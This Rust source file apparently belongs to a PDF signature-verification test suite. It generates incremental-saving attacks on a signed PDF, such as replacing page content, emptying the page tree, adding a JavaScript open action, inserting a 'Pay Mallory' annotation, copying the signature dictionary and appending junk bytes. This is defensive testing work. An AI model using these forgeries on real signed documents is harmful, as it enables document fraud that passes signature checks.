//! Incremental saving: the file is continued after what was signed, properly or with the parts left out that a verifier
//! looks at.

use super::Attack;
use super::update::{append, append_with, bodies, end_of, object_text, other_content, stream};

/// Every form over a signed [`crate::pdfs::simple`]; the signature dictionary is object `signature`.
pub fn incremental_saving(signed: &[u8], signature: u32) -> Vec<Attack> {
    let next = u32::try_from(end_of(signed).size).expect("a small file");
    let page = object_text(signed, 4);
    let other_page = page.replace("/Contents 5 0 R", &format!("/Contents {next} 0 R"));
    let catalog = object_text(signed, 1);
    let content = || (5, other_content());
    let pages = "<< /Type /Pages /Kids [] /Count 0 >>".to_owned();
    let attack = |name: &str, objects: &[(u32, String)]| Attack::new(name, append(signed, objects));
    let copy = object_text(signed, signature);
    let resources = page.replace("/F1 3 0 R", &format!("/F1 3 0 R /F2 {next} 0 R"));
    let mut forms = vec![
        attack("content replaced", &[content()]),
        attack("page with other content", &[(4, other_page), (next, other_content())]),
        attack("page tree emptied", &[(2, pages)]),
        attack(
            "catalog with an open action",
            &[(1, with(&catalog, "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))],
        ),
        attack(
            "catalog with names",
            &[(1, with(&catalog, "/Names << /JavaScript << /Names [] >> >>"))],
        ),
        attack(
            "catalog with optional content",
            &[(1, with(&catalog, "/OCProperties << /OCGs [] /D << >> >>"))],
        ),
        attack("page turned", &[(4, with(&page, "/Rotate 180"))]),
        attack("page cropped", &[(4, with(&page, "/CropBox [0 0 1 1]"))]),
        attack(
            "page with an annotation",
            &[(4, with_annotation(&page, next)), (next, free_text())],
        ),
        attack("page with another font", &[(4, resources), (next, times())]),
        attack("font replaced", &[(3, times())]),
        attack("signature copied at the end", &[content(), (signature, copy.clone())]),
        attack("signature copied under a new number", &[content(), (next, copy)]),
        Attack::new("objects only", bodies(signed, &[content()]).0),
        Attack::new(
            "objects and a trailer without table",
            without_table(signed, &[content()]),
        ),
        Attack::new(
            "objects and an end marker",
            [bodies(signed, &[content()]).0, b"%%EOF\n".to_vec()].concat(),
        ),
        Attack::new(
            "a new catalog",
            append_with(signed, &[(next, catalog), content()], next),
        ),
        attack(
            "an unused object",
            &[(
                next,
                stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", "0 0 9 9 re f"),
            )],
        ),
    ];
    forms.extend(tails(signed));
    forms
}

/// Bytes that are no revision at all.
fn tails(signed: &[u8]) -> Vec<Attack> {
    let tail = |name: &str, tail: &[u8]| Attack::new(name, [signed, tail].concat());
    vec![
        tail("a line of text", b"not part of it\n"),
        tail("a comment", b"% not part of it\n"),
        tail("an end marker", b"%%EOF\n"),
        tail("startxref 0", b"startxref\n0\n%%EOF\n"),
        tail("zeros", &[0; 64]),
        tail("a whole PDF", &crate::pdfs::simple(1)),
    ]
}

fn without_table(signed: &[u8], objects: &[(u32, String)]) -> Vec<u8> {
    let (mut file, _) = bodies(signed, objects);
    let end = end_of(signed);
    let trailer = format!(
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{}\n%%EOF\n",
        end.size, end.section
    );
    file.extend(trailer.bytes());
    file
}

/// A dictionary with one more entry.
pub(super) fn with(dictionary: &str, entry: &str) -> String {
    let end = dictionary.rfind(">>").expect("a dictionary");
    format!("{} {entry} >>", &dictionary[..end])
}

fn with_annotation(page: &str, annotation: u32) -> String {
    match page.find("/Annots") {
        Some(at) => {
            let bracket = at + page[at..].find('[').expect("an array") + 1;
            format!("{}{annotation} 0 R {}", &page[..bracket], &page[bracket..])
        }
        None => with(page, &format!("/Annots [{annotation} 0 R]")),
    }
}

fn free_text() -> String {
    "<< /Type /Annot /Subtype /FreeText /Rect [60 740 400 800] /DA (/Helv 24 Tf) /Contents (Pay Mallory) /F 4 >>"
        .to_owned()
}

fn times() -> String {
    "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>".to_owned()
}
